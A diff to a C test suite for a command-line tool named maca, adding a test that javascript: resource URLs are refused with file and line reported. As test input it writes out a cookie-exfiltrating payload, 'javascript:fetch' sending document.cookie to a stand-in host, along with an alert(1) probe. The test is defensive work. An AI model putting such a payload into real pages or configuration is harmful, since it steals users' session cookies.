@@ -363,6 +363,43 @@ static void test_config_problems(void **state)
 		       "cannot read");
 }
 
+/* A javascript: resource is refused by check (a template) and by the configuration loader,
+ * each naming file and line. */
+static void test_resource_url_refused_with_file_line(void **state)
+{
+	(void)state;
+	char *tpl = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
+	char *orig = tu_read(tpl, NULL);
+	assert_non_null(orig);
+	size_t lines = 0;
+	for (const char *p = orig; *p; p++)
+		lines += *p == '\n';
+	char *text = str_fmt("%s\n[resource evil]\ntitle = Procedures\nurl = "
+			     "javascript:fetch('https://x.example/'+document.cookie)\n",
+			     orig);
+	write_home_file("evil.ini", text);
+	char *path = path_in_home("evil.ini");
+	char *want = str_fmt("%s:%zu: url", path, lines + 4);
+	struct cli_run r = maca("check", path, NULL);
+	assert_int_equal(r.status, CLI_FAIL);
+	assert_non_null(strstr(r.out, want));
+	cli_run_free(&r);
+
+	write_home_file("config/maca/maca.ini",
+			"[maca]\nauthor = Chair\n\n[resource evil]\ntitle = Procedures\nurl = "
+			"JavaScript:alert(1)\n");
+	cli_run_expect(maca("list", NULL), CLI_FAIL, "", "maca.ini:6: url");
+	write_home_file("config/maca/maca.ini",
+			"[maca]\nauthor = Chair\n\n[resource ok]\ntitle = Procedures\nurl = "
+			"https://example.org/procedures\n");
+	cli_run_expect(maca("list", NULL), CLI_OK, NULL, "");
+	free(want);
+	free(path);
+	free(text);
+	free(orig);
+	free(tpl);
+}
+
 static void test_refuses_non_maca_database_without_changing_it(void **state)
 {
 	(void)state;
@@ -394,6 +431,7 @@ int main(void)
 	    T(test_db_option_works_without_home),
 	    T(test_new_names_every_agency_on_a_wrong_one),
 	    T(test_config_problems),
+	    T(test_resource_url_refused_with_file_line),
 	    T(test_refuses_non_maca_database_without_changing_it),
 	};
 #undef T
